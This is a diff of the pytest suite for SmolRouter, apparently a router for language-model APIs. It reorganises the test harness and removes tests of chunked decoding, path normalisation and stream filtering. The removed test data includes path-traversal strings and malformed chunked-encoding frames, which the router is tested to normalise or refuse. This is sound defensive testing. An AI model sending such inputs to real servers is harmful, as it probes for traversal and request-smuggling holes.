@@ -1,14 +1,31 @@
 """Every test of SmolRouter; `python -m pytest` runs them.
 
 Nothing that speaks HTTP is mocked: upstreams are scripted on real sockets, clients are
-`http.client`, raw sockets and the official SDKs. In the order of the module's sections:
+`http.client`, raw sockets, the official SDKs and a browser. The tests stand in the order of
+the program. What proves a section of smolrouter.py, on values or from end to end, stands
+under the same number and name here; its own helpers stand at its top.
 
-    Harness    scripted upstreams, a router in a process of its own, raw clients
-    Module     the shape of smolrouter.py, its table of contents, README's tables
-    Pure       sections 1 to 8 on values: tables of cases, every split of every stream
-    Sockets    HTTP, limits, failover, leaving and dying, settings, the command line
-    SDKs       the official `openai` and `ollama` packages in front of scripted servers
-    Log        rows, bodies, questions and export; everything that can happen to a database
+    Harness                what several sections use: upstreams, routers, clients, a log
+     1  Errors             what holds for all of them
+     2  Settings           good and bad values of each variable
+     3  HTTP messages      heads, chunks and codings; requests that are not HTTP
+     4  JSON               what is refused, and what stays as it was, to the byte
+     5  Event streams      where events and streams end, at every split
+     6  Text filters       thinking and fences, at every split
+     7  Protocols          the user's words, token counts and conversations of each endpoint
+     8  Dialects           OpenAI, Ollama and Anthropic clients before servers of each kind
+     9  Routing            which model goes where, and what is wrong with a routing file
+    10  Access             tokens, policies, pages from elsewhere, proxies
+    11  HTTP on streams    contents and answers; clients that are slow or leave
+    12  Upstreams          connections, answers that are not HTTP, cool-downs, lists of models
+    13  Request log        rows, bodies, secrets; all that can happen to a database
+    14  Relay              failover, fields, usage, events that leave as they come
+    15  Dashboard and API  what the page asks; metrics and export
+    16  Application        which path means what
+    17  HTTP server        connections, many connections, the end of the process
+    18  Command line       flags and commands
+     A  The page           dashboard.html in a real browser
+    The file itself        the shape of both files, README, the image, the measurements
 
 A test that needs a package which is not there is skipped, or fails when the environment
 variable SMOLROUTER_TEST_ALL is 1. SMOLROUTER_FUZZ=4000 makes hypothesis try so many new
@@ -67,11 +84,16 @@ import smolrouter
 # ======================================================================================
 # Harness
 # ======================================================================================
+# What tests of several sections use; what one section alone needs stands at its top.
+
+# --- paths, patience, packages --------------------------------------------------------
 
 SMOLROUTER = pathlib.Path(__file__).resolve().parent / "smolrouter.py"
+HERE = pathlib.Path(__file__).resolve().parent
+SOURCE = SMOLROUTER.read_text("utf-8")
 PATIENCE = 10.0  # seconds that a test waits before it calls something lost
-
 Pairs = Sequence[tuple[str, str]]
+Cases = tuple[tuple[Any, ...], ...]
 
 
 def until(holds: Callable[[], Any], seconds: float = PATIENCE) -> Any:
@@ -92,12 +114,46 @@ def shared_things() -> Iterator[None]:
         yield
 
 
+def need(module: str) -> Any:
+    """Import a test extra. Without it the test is skipped, or fails if all must run."""
+    try:
+        return importlib.import_module(module)
+    except ImportError:
+        if os.environ.get("SMOLROUTER_TEST_ALL") == "1":
+            pytest.fail(f"SMOLROUTER_TEST_ALL=1, but {module} is not installed")
+        pytest.skip(f"{module} is not installed")
+
+
+def at_once(task: Callable[..., Any], *inputs: Iterable[Any], workers: int = 8) -> list:
+    """The results of a task for every input, several at a time."""
+    with concurrent.futures.ThreadPoolExecutor(workers) as pool:
+        return list(pool.map(task, *inputs))
+
+
 def dumps(document: Any) -> bytes:
     """Encode as compact JSON, as the OpenAI SDK does."""
     return json.dumps(document, separators=(",", ":")).encode()
 
 
-# -- what an upstream says ---------------------------------------------------------
+def huge(document: Any) -> bytes:
+    """The document as JSON, its infinities as numbers that no double holds."""
+    return dumps(document).replace(b"Infinity", b"1e999")
+
+
+def cut(data: bytes, *positions: int) -> list[bytes]:
+    """The data in pieces, split at these positions."""
+    edges = [0, *sorted(positions), len(data)]
+    return [data[a:b] for a, b in itertools.pairwise(edges)]
+
+
+def every_split(data: Any) -> Iterator[list[Any]]:
+    """Yield `data` whole, in two pieces at every place, and in single pieces."""
+    yield [data]
+    yield from ([data[:at], data[at:]] for at in range(1, len(data)))
+    yield [data[at : at + 1] for at in range(len(data))]
+
+
+# --- scripted upstreams: what they say ------------------------------------------------
 
 
 class Mark:
@@ -113,7 +169,6 @@ class Mark:
 DROP = Mark("DROP")  # reset the connection (RST)
 CLOSE = Mark("CLOSE")  # end the connection (FIN)
 HANG = Mark("HANG")  # say nothing until the peer closes, for longer than any test waits
-
 Step = bytes | float | Mark
 
 
@@ -136,15 +191,12 @@ def json_answer(document: Any, status: int = 200, fields: Pairs = ()) -> list[St
     return answer(dumps(document), status, fields, "application/json")
 
 
+FINE: list[Step] = json_answer({"fine": True})
+
+
 def chunked(*pieces: bytes, end: bytes = b"0\r\n\r\n") -> list[bytes]:
     """Each piece as one chunk in its own send, then the last chunk."""
     return [b"%x\r\n%s\r\n" % (len(p), p) for p in pieces if p] + [end] * bool(end)
-
-
-def cut(data: bytes, *positions: int) -> list[bytes]:
-    """The data in pieces, split at these positions."""
-    edges = [0, *sorted(positions), len(data)]
-    return [data[a:b] for a, b in itertools.pairwise(edges)]
 
 
 def event(data: Any) -> bytes:
@@ -194,7 +246,60 @@ def sse_answer(
     return stream_answer(pieces, fields, framed=chunked)
 
 
-# -- what an upstream hears --------------------------------------------------------
+def upstream_head(lines: bytes, content: bytes = b"{}") -> list[Step]:
+    """An answer with these field lines, then the end of the connection."""
+    return [b"HTTP/1.1 200 OK\r\n" + lines + b"\r\n\r\n" + content, CLOSE]
+
+
+def broken_stream(*tail: Step) -> list[Step]:
+    """A stream that begins well."""
+    first = event(completion_events({}, "Hello")[1])
+    return [*stream_answer([first], whole=False), 0.02, *tail]
+
+
+CODED = b"Transfer-Encoding: chunked"
+
+
+# --- scripted upstreams: the events of a stream ---------------------------------------
+
+WORDS = [{"choices": [{"index": 0, "delta": {"content": w}}]} for w in ("one ", "two")]
+ENDED = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
+
+
+def piece(text: str) -> dict[str, Any]:
+    return {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}
+
+
+def ending(reason: str = "stop") -> dict[str, Any]:
+    return {"choices": [{"index": 0, "delta": {}, "finish_reason": reason}]}
+
+
+def deltas(*texts: str, key: str = "content", index: int = 0) -> list[dict[str, Any]]:
+    """Stream events that carry these texts."""
+    return [{"id": "c", "choices": [{"index": index, "delta": {key: t}}]} for t in texts]
+
+
+def stream_of(*texts: str, escape: bool = False) -> list[bytes]:
+    """A whole chat stream with these texts as encoded events."""
+    role = {"id": "c", "choices": [{"index": 0, "delta": {"role": "assistant"}}]}
+    finish = {"index": 0, "delta": {}, "finish_reason": "stop"}
+    events = [role, *deltas(*texts), {"id": "c", "choices": [finish]}, "[DONE]"]
+    encoded = [event(e) for e in events]
+    if escape:
+        encoded = [e.replace(b"<", rb"\u003c").replace(b">", rb"\u003e") for e in encoded]
+    return encoded
+
+
+TOP = b'data: {"id":"x","choices":[{"index":0,"delta":'
+WORD = TOP + b'{"content":"hi"},"finish_reason":null}]}\n\n'
+STOP = TOP + b'{},"finish_reason":"stop"}]}\n\n'
+DONE = b"data: [DONE]\n\n"
+USAGE = b'{"prompt_tokens":3,"completion_tokens":1,"total_tokens":4}'
+EXTRA = b'data: {"id":"x","choices":[],"usage":' + USAGE + b"}\n\n"
+PING = b": ping\n\n"
+
+
+# --- scripted upstreams: the servers --------------------------------------------------
 
 
 @dataclass
@@ -426,9 +531,6 @@ def read_chunks(reader: Any) -> Iterator[bytes]:
         pass
 
 
-# -- a small OpenAI-compatible server ----------------------------------------------
-
-
 def last_words(document: Mapping[str, Any]) -> str:
     """The text of the last message, or the prompt."""
     messages = document.get("messages") or [{"content": document.get("prompt", "")}]
@@ -538,6 +640,16 @@ def completion_events(document: Mapping[str, Any], text: str, kind: str = "chat"
     return [*events, "[DONE]"]
 
 
+HELD: list[socket.socket] = []  # ports that stay taken
+
+
+def refusing() -> str:
+    """The URL of a port where nobody listens."""
+    HELD.append(socket.socket())
+    HELD[-1].bind(("127.0.0.1", 0))
+    return f"http://127.0.0.1:{HELD[-1].getsockname()[1]}"
+
+
 @functools.lru_cache
 def certificate() -> tuple[str, ssl.SSLContext] | None:
     """A self-signed certificate for loopback: its file and a server's context."""
@@ -575,7 +687,7 @@ def certificate() -> tuple[str, ssl.SSLContext] | None:
     return cert, context
 
 
-# -- the router --------------------------------------------------------------------
+# --- the router in a process of its own -----------------------------------------------
 
 
 def bare_environment(settings: Mapping[str, Any]) -> dict[str, str]:
@@ -712,7 +824,44 @@ def shared() -> Router:
     return router_for({"DEFAULT_UPSTREAM": stage().url})
 
 
-# -- clients -----------------------------------------------------------------------
+@contextlib.contextmanager
+def pair(script: Script | None = None, **settings: Any) -> Iterator[tuple]:
+    """A router with an upstream of its own."""
+    with (
+        Upstream(script) as upstream,
+        Router({"DEFAULT_UPSTREAM": upstream.url, **settings}) as router,
+    ):
+        yield router, upstream
+
+
+def both(first: str, second: str, **settings: Any) -> Router:
+    """A router whose alias `pair` has two instances."""
+    aliases = {"pair": {"instances": ["one/m", "two/m"]}}
+    return Router(settings, {"servers": {"one": first, "two": second}, "aliases": aliases})
+
+
+@functools.cache
+def altered(*changes: tuple[str, str]) -> pathlib.Path:
+    """The program with other words in some places."""
+    folder = pathlib.Path(tempfile.mkdtemp(prefix="smol-"))
+    AT_END.callback(shutil.rmtree, folder, ignore_errors=True)
+    text = SOURCE
+    for there, instead in changes:
+        assert text.count(there) == 1, there
+        text = text.replace(there, instead)
+    (folder / "smolrouter.py").write_text(text)
+    return folder / "smolrouter.py"
+
+
+def memory(router: Router, name: str = "VmRSS") -> int:
+    """MiB that a router has, or has had at most (VmHWM)."""
+    status = pathlib.Path(f"/proc/{router.process.pid}/status")
+    if not status.exists():
+        pytest.skip("there is no /proc here")
+    return int(re.search(rf"{name}:\s+(\d+)", status.read_text())[1]) // 1024
+
+
+# --- raw clients ----------------------------------------------------------------------
 
 
 @dataclass
@@ -929,17 +1078,6 @@ def request(
         caller.close()
 
 
-def sse(port: int, path: str, body: Any, fields: Pairs = ()) -> list[tuple[float, bytes]]:
-    """The events of a streamed answer, each with the time when it was complete."""
-    got = request(port, "POST", path, body, fields)
-    mark = b"\n" if "ndjson" in (got.get("Content-Type") or "") else b"\n\n"
-    events, held = [], b""
-    for moment, piece in got.pieces:
-        *done, held = (held + piece).split(mark)
-        events += [(moment, block) for block in done if block]
-    return events
-
-
 def chat(model: str, text: str = "hi", **more: Any) -> dict[str, Any]:
     """The document of a chat request."""
     return {"model": model, "messages": [{"role": "user", "content": text}], **more}
@@ -950,1400 +1088,7 @@ def ask(router: Router, model: str, text: str = "hi", **more: Any) -> Answer:
     return request(router.port, "POST", "/v1/chat/completions", chat(model, text, **more))
 
 
-# ======================================================================================
-# Module: the shape of smolrouter.py
-# ======================================================================================
-
-HERE = pathlib.Path(__file__).resolve().parent
-SOURCE = SMOLROUTER.read_text("utf-8")
-PROGRAM = SOURCE.partition("\nDASHBOARD_HTML = ")[0] + "\n"
-TREE = ast.parse(PROGRAM)
-FUNCTION = (ast.FunctionDef, ast.AsyncFunctionDef)
-BLOCKS = (ast.If, ast.For, ast.AsyncFor, ast.While, ast.With, ast.AsyncWith, ast.Try)
-BANNER = re.compile(r"# ={80,}\n# (\d+|A)  (.+)\n# ={80,}\n((?:#.*\n)*)")
-
-
-def functions() -> list[Any]:
-    return [node for node in ast.walk(TREE) if isinstance(node, FUNCTION)]
-
-
-def nesting(node: ast.AST, depth: int = 0) -> int:
-    """Return the deepest control flow in a function; an elif chain counts once."""
-    deepest = depth
-    for name, value in ast.iter_fields(node):
-        for child in value if isinstance(value, list) else [value]:
-            if not isinstance(child, ast.AST):
-                continue
-            if isinstance(child, (*FUNCTION, ast.ClassDef, ast.Lambda)):
-                continue
-            is_elif = isinstance(node, ast.If) and isinstance(child, ast.If)
-            is_elif = is_elif and name == "orelse" and len(value) == 1
-            more = isinstance(child, BLOCKS) and not is_elif
-            deepest = max(deepest, nesting(child, depth + more))
-    return deepest
-
-
-def sections() -> dict[str, tuple[str, str, str]]:
-    """Return title, prose and code of each section by its number."""
-    found = list(BANNER.finditer(SOURCE))
-    ends = [match.start() for match in found[1:]] + [len(SOURCE)]
-    return {
-        match[1]: (match[2], match[3], SOURCE[match.end() : end])
-        for match, end in zip(found, ends, strict=True)
-    }
-
-
-def test_functions_are_short_and_flat() -> None:
-    for node in functions():
-        doc = ast.get_docstring(node, clean=False)
-        lines = node.end_lineno - node.lineno + 1 - (doc.count("\n") + 1 if doc else 0)
-        assert lines <= 50, node.name
-        assert nesting(node) <= 4, node.name
-
-
-def test_nothing_refers_to_what_stands_below() -> None:
-    where = {node.name: node.lineno for node in TREE.body if hasattr(node, "name")}
-    for block in TREE.body:
-        for node in ast.walk(block):
-            if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Load):
-                assert where.get(node.id, 0) <= block.lineno, (node.id, block.lineno)
-
-
-def test_every_signature_is_typed_and_documented() -> None:
-    for node in ast.walk(TREE):
-        if isinstance(node, FUNCTION):
-            assert node.returns is not None, node.name
-        if isinstance(node, ast.ClassDef):
-            assert ast.get_docstring(node), node.name
-    for node in TREE.body:
-        if isinstance(node, FUNCTION):
-            assert ast.get_docstring(node), node.name
-
-
-def test_no_state_hides_in_the_module() -> None:
-    assert not [node for node in ast.walk(TREE) if isinstance(node, ast.Global)]
-    assert len(re.findall(r"except (?:Base)?Exception\b|except:", PROGRAM)) <= 4
-    assert len(re.findall(r"os\.environ|os\.getenv", PROGRAM)) == 1
-    assert not re.findall(r"\b(?:TODO|FIXME|XXX)\b", PROGRAM)
-
-
-def test_table_of_contents_is_true() -> None:
-    docstring = ast.get_docstring(TREE)
-    listed = re.findall(r"^ +(?:[A-Z][a-z ]+ )? *(\d+)  (.+?)  +\S.*$", docstring, re.M)
-    real = [(number, title) for number, (title, _, _) in sections().items()]
-    real = [(n, t.removesuffix(" (pure)")) for n, t in real if n != "A"]
-    assert listed == real
-    assert [n for n, _ in real] == [str(n) for n in range(1, 19)]
-
-
-@pytest.mark.parametrize("number", [str(n) for n in range(1, 19)])
-def test_section(number: str) -> None:
-    title, prose, code = sections()[number]
-    assert 1 <= prose.count("\n") <= 8
-    assert title.endswith(" (pure)") == (int(number) <= 10)
-    if title.endswith("(pure)"):
-        tree = ast.parse(code)
-        assert not [n for n in ast.walk(tree) if isinstance(n, (ast.Await, ast.AsyncFor))]
-        assert not re.findall(r"\bopen\(|\bsqlite3\.|\btime\.[a-z]|\basyncio\.", code)
-
-
-def test_one_protocol_at_the_edge_only() -> None:
-    """The word stands in Protocols, Dialects, Routing (a server's `api`) and the endpoint table."""
-    for number, (_, prose, code) in sections().items():
-        if number not in ("7", "8", "9", "16", "18", "A"):
-            assert "ollama" not in (prose + code).lower(), number
-
-
-def test_embedded_page_is_the_page() -> None:
-    page = (HERE / "dashboard.html").read_text("utf-8")
-    assert page == smolrouter.DASHBOARD_HTML, "run: python test_smolrouter.py --embed"
-    assert page.count("\n") <= 1100
-
-
-def test_page_comes_with_its_own_hashes() -> None:
-    got = request(shared().port, "GET", "/")
-    page = (HERE / "dashboard.html").read_bytes()
-    assert (got.status, got.content) == (200, page)
-    policy = got.get("Content-Security-Policy")
-    for tag in (b"style", b"script"):
-        text = page.partition(b"<" + tag + b">")[2].partition(b"</" + tag + b">")[0]
-        digest = base64.b64encode(hashlib.sha256(text).digest()).decode()
-        assert f"{tag.decode()}-src 'sha256-{digest}'" in policy
-    assert "unsafe" not in policy and "default-src 'none'" in policy
-
-
-def test_page_of_a_file_is_read_each_time(tmp_path: pathlib.Path) -> None:
-    page = tmp_path / "page.html"
-    with Router({}, args=("serve", "--dashboard", str(page))) as router:
-        assert request(router.port, "GET", "/").status == 404
-        for text in ("<p>one</p>", "<p>two</p>"):
-            page.write_text(text)
-            assert request(router.port, "GET", "/").content == text.encode()
-
-
-def test_readme_lists_every_setting() -> None:
-    readme = (HERE / "README.md").read_text("utf-8")
-    rows = re.findall(r"^\| ([A-Z_]+) \| (.*?) \| (.*?) \|$", readme.replace("`", ""), re.M)
-    wanted = [
-        (f.name.upper(), str(f.metadata["default"] or "unset"), f.metadata["help"])
-        for f in dataclasses.fields(smolrouter.Settings)
-    ]
-    assert rows == [(n, d, h.replace("`", "")) for n, d, h in wanted]
-
-
-# ======================================================================================
-# Pure: sections 3 to 8 on values
-# ======================================================================================
-
-
-def every_split(data: Any) -> Iterator[list[Any]]:
-    """Yield `data` whole, in two pieces at every place, and in single pieces."""
-    yield [data]
-    yield from ([data[:at], data[at:]] for at in range(1, len(data)))
-    yield [data[at : at + 1] for at in range(len(data))]
-
-
-# -- 3 HTTP messages ---------------------------------------------------------------
-
-CHUNKS = [
-    (b"5\r\nhello\r\n0\r\n\r\n", b"hello"),
-    (b"5;a=b\r\nhello\r\n0;last\r\n\r\n", b"hello"),
-    (b"5 ;a\r\nhello\r\n6\r\n\r\n\r\n\r\n\r\n0\r\n\r\n", b"hello\r\n\r\n\r\n"),
-    (b"A\r\n0123456789\r\na\r\n0123456789\r\n000\r\n\r\n", b"0123456789" * 2),
-    (b"1\r\nx\r\n0\r\nTrailer: gone\r\nX: y\r\n\r\n", b"x"),
-    (b"0\r\n\r\n", b""),
-]
-
-
-@pytest.mark.parametrize("data, content", CHUNKS)
-def test_chunks_at_every_split(data: bytes, content: bytes) -> None:
-    for pieces in every_split(data):
-        decoder = smolrouter.ChunkDecoder()
-        assert b"".join(map(decoder.feed, pieces)) == content
-        assert decoder.done and decoder.rest == b""
-
-
-def decode_chunks(pieces: Iterable[bytes]) -> tuple[bytes, bool, bytes] | str:
-    """Return the content of some pieces, whether it is at its end and what is left, or a fault."""
-    decoder, content = smolrouter.ChunkDecoder(), b""
-    try:
-        for piece in pieces:
-            content += decoder.feed(piece)
-    except smolrouter.BadRequest as fault:
-        return type(fault).__name__
-    return content, decoder.done, decoder.rest
-
-
-def test_chunks_in_bulk_are_chunks_one_by_one() -> None:
-    random = __import__("random").Random(7)
-    shapes = [b"data: %b\n\n"] * 12 + [b"%b\n", b"%b", b"a\n%b\n\n", b"\r\n%b", b"%b\n\n\r\n"]
-    faults = [
-        (b"\r\n", b"\r"),
-        (b"\r\n", b"\n"),
-        (b"e\r\n", b"E\r\n"),
-        (b"\n\n\r\n", b"\n\r\n"),
-        (b"1", b"01"),
-        (b"\r\ndata", b";x=y\r\ndata"),
-    ]
-    bad = 0
-    for turn in range(80):
-        sizes = [random.choice([1, 40, 1100])] if turn % 2 else [1, 40, 1100]
-        some = [random.choice(shapes)] if turn % 2 else shapes
-        contents = [
-            random.choice(some) % bytes(random.choices(b'ab0"{', k=random.choice(sizes)))
-            for _ in range(random.randrange(1, 30))
-        ]
-        data = b"".join(itertools.chain(*map(smolrouter.encode_chunk, contents))) + b"0\r\n\r\n"
-        if turn % 4 < 2:
-            start = random.randrange(len(data))
-            data = data[:start] + data[start:].replace(*random.choice(faults), 1)
-        cut = random.randrange(len(data))
-        slowly = decode_chunks(bytes([octet]) for octet in data)
-        bad += isinstance(slowly, str)
-        assert decode_chunks([data]) == decode_chunks([data[:cut], data[cut:]]) == slowly
-        if turn % 4 > 1:
-            assert slowly == (b"".join(contents), True, b"")
-    assert bad > 8
-
-
-@pytest.mark.parametrize("size", [5, 26, 190])
-def test_every_octet_that_frames_a_chunk_is_looked_at(size: int) -> None:
-    """Also among many chunks of one size, and of one line, which are read at once."""
-    for ending in (b"\n\n", b"x\r"):
-        chunk = b"%x\r\n%s%s\r\n" % (size, b"a" * (size - 2), ending)
-        count = 2000 // len(chunk) + 2
-        data = chunk * count + b"0\r\n\r\n"
-        assert decode_chunks([data])[:2] == ((b"a" * (size - 2) + ending) * count, True)
-        start = len(chunk) * (count // 2)
-        frame = [*range(chunk.index(b"\n") + 1), len(chunk) - 2, len(chunk) - 1]
-        for at in (start + at for at in frame):
-            for octet in (b"X", b"\r", b"\n", b"0", b"f"):
-                if data[at : at + 1] != octet:
-                    wrong = data[:at] + octet + data[at + 1 :]
-                    slowly = decode_chunks(bytes([octet]) for octet in wrong)
-                    assert decode_chunks([wrong]) == slowly
-                    assert isinstance(slowly, str) or slowly[1] is False or octet in b"0f"
-
-
-BAD_CHUNKS = {
-    "no size": b"\r\nhello",
-    "sign": b"+5\r\nhello\r\n",
-    "prefix": b"0x5\r\nhello\r\n",
-    "underscore": b"1_0\r\nhello",
-    "space before": b" 5\r\nhello\r\n",
-    "space after": b"5 \r\nhello\r\n",
-    "sixteen digits": b"0000000000000005\r\nhello\r\n",
-    "bare LF after the size": b"5\nhello\r\n",
-    "bare LF in an extension": b"5;a\nb\r\nhello\r\n",
-    "NUL in an extension": b"5;\0\r\nhello\r\n",
-    "content longer than its size": b"4\r\nhello\r\n",
-    "bare LF after the content": b"5\r\nhello\n0\r\n\r\n",
-    "long extension": b"5;" + b"x" * 2000 + b"\r\nhello\r\n",
-    "many extensions": (b"1;" + b"x" * 900 + b"\r\ny\r\n") * 20,
-    "bad trailer": b"0\r\nno colon\r\n\r\n",
-    "long trailers": b"0\r\n" + b"a: b\r\n" * 2000,
-}
-
-
-@pytest.mark.parametrize("data", BAD_CHUNKS.values(), ids=BAD_CHUNKS.keys())
-def test_bad_chunks_are_refused_at_every_split(data: bytes) -> None:
-    step = max(1, len(data) // 50)
-    for cut in range(0, len(data), step):
-        decoder = smolrouter.ChunkDecoder()
-        with pytest.raises(smolrouter.RouterError):
-            [decoder.feed(data[:cut]), decoder.feed(data[cut:])]
-
-
-PATHS = [
-    ("/v1/models", "/v1/models"),
-    ("//api/logs", "/api/logs"),
-    ("/api/./logs", "/api/logs"),
-    ("/%61pi/logs", "/api/logs"),
-    ("/api/logs/", "/api/logs"),
-    ("/api/x/../logs", "/api/logs"),
-    ("/../../api/logs", "/api/logs"),
-    ("/%2e%2e/api/logs", "/api/logs"),
-    ("/v1/models/org%2fname", "/v1/models/org%2Fname"),
-    ("/v1/caf%c3%a9", "/v1/caf%C3%A9"),
-    ("/", "/"),
-    ("/.", "/"),
-]
-
-
-@pytest.mark.parametrize("path, normal", PATHS)
-def test_path_has_one_spelling(path: str, normal: str) -> None:
-    assert smolrouter.normalise_path(path) == normal
-    assert smolrouter.normalise_path(normal) == normal
-
-
-# -- 4 Event streams and 5 Text filters --------------------------------------------
-
-ENDS = (b"\n\n", b"\r\n\r\n", b"\r\r")
-
-
-@pytest.mark.parametrize("end", ENDS)
-def test_events_at_every_split(end: bytes) -> None:
-    line_end = end[: len(end) // 2]
-    data = b"data: a" + end + b": note" + end + b"event: x" + line_end + b"data: b" + end
-    for pieces in every_split(data):
-        splitter = smolrouter.EventSplitter(smolrouter.SSE)
-        blocks = [splitter.feed(piece) for piece in pieces]
-        rest = splitter.take()
-        assert b"".join(blocks) + rest == data
-        for block in blocks:
-            assert not block or block.endswith(end[-1:])
-
-
-def chat_filter(**rules: bool) -> Any:
-    """The filter of a streamed chat."""
-    asked = smolrouter.OPENAI.read(CHAT, "", b'{"model":"m","stream":true,"messages":[]}')
-    on = smolrouter.FilterRules(**(rules or {"think": True}))
-    plan = smolrouter.AnswerPlan(
-        asked, smolrouter.OPENAI, True, on, True, False, lambda: smolrouter.Timing(0.0, 1, 1)
-    )
-    return smolrouter.StreamRewrite(plan, smolrouter.SSE)
-
-
-def filtered(pieces: Iterable[bytes], **rules: bool) -> bytes:
-    """What is left of a chat stream when its filter has seen these pieces."""
-    transform = chat_filter(**rules)
-    return b"".join([transform.feed(piece) for piece in pieces]) + transform.finish()
-
-
-@pytest.mark.parametrize("end", (b"\r\n", b"\r"))
-def test_line_ends_change_nothing_of_what_is_filtered(end: bytes) -> None:
-    said = stream_of("Hi", " there", "<think>", "no", "</think>", "a<b", "c", " <thi", "s", " x")
-    usage = event({"choices": [], "usage": {"prompt_tokens": 1}})
-    data = b"".join([*said[:-1], b": note\n\n", usage, said[-1]])
-    right = filtered([data]).replace(b"\n", end)
-    assert b"think" not in right and b'"usage"' not in right and right.count(b": note") == 1
-    assert {filtered(p) for p in every_split(data.replace(b"\n", end))} == {right}
-    assert {filtered(p) for p in every_split(data)} == {right.replace(end, b"\n")}
-
-
-@pytest.mark.parametrize("end", ENDS)
-def test_the_end_of_a_long_event_at_every_split(end: bytes, monkeypatch: Any) -> None:
-    small = dataclasses.replace(smolrouter.LIMITS, buffered_event=100)
-    monkeypatch.setattr(smolrouter, "LIMITS", small)
-    long, said = event("<think>" + "x" * 200), stream_of("<think>no</think>", "yes")
-    data = b"".join([long, *said]).replace(b"\n\n", end)
-    for at in range(110, len(long) + 12):
-        for size in (1, 2, 3, len(data)):
-            got = filtered([data[:at], *(data[i : i + size] for i in range(at, len(data), size))])
-            assert got.startswith(long[:-2] + end) and b"no" not in got and b"yes" in got
-
-
-def test_texts_without_number(monkeypatch: Any) -> None:
-    small = dataclasses.replace(smolrouter.LIMITS, texts_per_stream=50)
-    monkeypatch.setattr(smolrouter, "LIMITS", small)
-    events = [event(deltas(f"{n}<", index=n)[0]) for n in range(51)]
-    ended = [{"index": n, "delta": {"content": "b"}, "finish_reason": "stop"} for n in (3, 3, 4)]
-    transform = chat_filter()
-    held = b"".join(map(transform.feed, events[:50]))
-    assert b"<" not in held and len(transform.waiting) == len(transform.unsettled) == 50
-    assert transform.feed(event({"choices": ended})).count(b"<b") == 2
-    assert len(transform.waiting) == len(transform.unsettled) == 48
-    assert transform.feed(event("[DONE]")).count(b'"<"') == 48
-    assert not transform.waiting and not transform.unsettled and transform.settled()
-    transform.feed(event(deltas("<think>a", index=7)[0]))
-    assert transform.unsettled == {7} and not transform.waiting
-    with pytest.raises(smolrouter.BadGateway, match="more than 50 texts"):
-        transform.feed(events[50])
-
-
-class Counted(bytes):
-    """Octets that count how many of them were looked at by `find` and `rfind`."""
-
-    looked = 0
-
-    def find(self, word: bytes, start: int = 0, stop: int | None = None) -> int:  # type: ignore
-        stop = len(self) if stop is None else stop
-        at = super().find(word, start, stop)
-        self.looked += (at if at >= 0 else stop) - start
-        return at
-
-    def rfind(self, word: bytes, start: int = 0, stop: int | None = None) -> int:  # type: ignore
-        stop = len(self) if stop is None else stop
-        at = super().rfind(word, start, stop)
-        self.looked += stop - (at if at >= 0 else start)
-        return at
-
-
-@pytest.mark.parametrize("end", ENDS)
-@pytest.mark.parametrize("text", ("x", " <b>"))
-@pytest.mark.parametrize("key", ("content", "reasoning"))
-def test_no_octet_is_looked_at_often(end: bytes, text: str, key: str) -> None:
-    events = [event(doc) for doc in deltas("Hi", *["word"] * 19, text, key=key)] * 20
-    block = Counted(b"".join(events).replace(b"\n\n", end))
-    assert chat_filter().change_block(block) == block
-    assert 0 < block.looked < 12 * len(block)
-
-
-THOUGHTS = [
-    # what the model says, what is seen, what was thought
-    ("<think>a</think>b", "b", "a"),
-    ("<think>a</think>\n\n  b", "b", "a"),
-    ("\n<think>a</think>\n\nb", "\nb", "a"),
-    ("b <think>a</think> c", "b  c", "a"),
-    ("b\n<think>a</think>\n\nc\n", "b\n\n\nc\n", "a"),
-    ("<think>a</think>\n<think>b</think>\nc", "c", "ab"),
-    ("<think>never closed", "", "never closed"),
-    ("<thinking_hard>a</thinking_hard>", "<thinking_hard>a</thinking_hard>", ""),
-    ("a < b <thin", "a < b <thin", ""),
-    ("<think>a < b </thin </think>c", "c", "a < b </thin "),
-    ("<<think>a</think>b", "<b", "a"),
-    ("<think><think>a</think>b", "b", "<think>a"),
-    ("code:\n  if a:\n\tb\n", "code:\n  if a:\n\tb\n", ""),
-    ("", "", ""),
-]
-
-
-@pytest.mark.parametrize("text, visible, thought", THOUGHTS)
-def test_think_filter_at_every_split(text: str, visible: str, thought: str) -> None:
-    rules = smolrouter.FilterRules(think=True)
-    for pieces in every_split(text) if text else [[""]]:
-        text_filter = smolrouter.TextFilter(rules)
-        parts = [text_filter.feed(piece) for piece in pieces]
-        parts.append(text_filter.feed("", last=True))
-        assert "".join(part[0] for part in parts) == visible
-        assert "".join(part[1] for part in parts) == thought
-    assert smolrouter.filter_text(text, rules) == (visible, thought)
-
-
-def test_bare_close_ends_a_block_from_the_prompt() -> None:
-    rules = smolrouter.FilterRules(think=True)
-    assert smolrouter.filter_text("hm</think>\n\nyes", rules) == ("yes", "hm")
-    late = "yes <think>a</think> b </think> c"
-    assert smolrouter.filter_text(late, rules) == ("yes  b </think> c", "a")
-
-
-FENCES = [
-    ('```json\n{"a": 1}\n```', '{"a": 1}\n'),
-    ('Here:\n```json\n{"a":\n  1}\n```\nDone.', 'Here:\n{"a":\n  1}\nDone.'),
-    ("  ```JSON \r\n[]\r\n  ``` \r\nx", "[]\r\nx"),
-    ("```python\nx = 1\n```\n", "```python\nx = 1\n```\n"),
-    ("```\nplain\n```\n", "```\nplain\n```\n"),
-    ("```python\n```json\n```\n[]", "```python\n```json\n```\n[]"),
-    ("inline ```json\n[]\n```", "inline ```json\n[]\n```"),
-    ("```json\n[1,\n", "[1,\n"),
-    ("a ` b `` c ``` d", "a ` b `` c ``` d"),
-]
-
-
-@pytest.mark.parametrize("text, visible", FENCES)
-def test_fence_filter_at_every_split(text: str, visible: str) -> None:
-    rules = smolrouter.FilterRules(fences=True)
-    for pieces in every_split(text):
-        text_filter = smolrouter.TextFilter(rules)
-        parts = [text_filter.feed(piece)[0] for piece in pieces]
-        assert "".join([*parts, text_filter.feed("", last=True)[0]]) == visible
-
-
-def test_a_hundred_thousand_tags_take_linear_time() -> None:
-    rules = smolrouter.FilterRules(think=True)
-    for text in ("<think>" * 100_000, "<think" * 100_000, "<" * 500_000):
-        smolrouter.filter_text(text, rules)
-
-
-# -- 6 Dialects --------------------------------------------------------------------
-
-SPLICES = [
-    ('{"model":"a","x":1.0}', {("model",): "b"}, '{"model":"b","x":1.0}'),
-    ('{ "x" : 1e3 , "model" : "a" }', {("model",): "b"}, '{ "x" : 1e3 , "model" : "b" }'),
